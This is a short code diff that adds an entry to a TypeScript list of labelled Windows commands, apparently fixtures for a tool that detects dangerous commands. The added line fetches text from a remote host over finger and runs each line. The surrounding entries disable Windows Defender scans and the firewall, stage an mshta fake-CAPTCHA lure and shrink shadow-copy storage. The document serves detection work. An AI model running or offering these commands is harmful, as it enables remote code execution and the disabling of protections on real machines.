@@ -38,6 +38,11 @@ const SHOWN: Array<[string, TemplatePlatform, string]> = [
     'schtasks /Change /TN "Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan" /Disable',
   ],
   ['netsh-firewall-off', 'windows', 'netsh advfirewall set allprofiles state off'],
+  [
+    'cmd-loop-runs-fetched-text',
+    'windows',
+    'cmd /c start "" /min for /f "skip=4 delims=" %a in (\'finger stage@198.51.100.12\') do call %a',
+  ],
   ['pasted-command-lure', 'windows', 'mshta https://198.51.100.9/check # I am not a robot - reCAPTCHA Verification ID: 2817'],
   ['netsh-firewall-opmode-off', 'windows', 'netsh firewall set opmode mode=disable'],
   ['vssadmin-resize-shadowstorage', 'windows', 'vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB'],
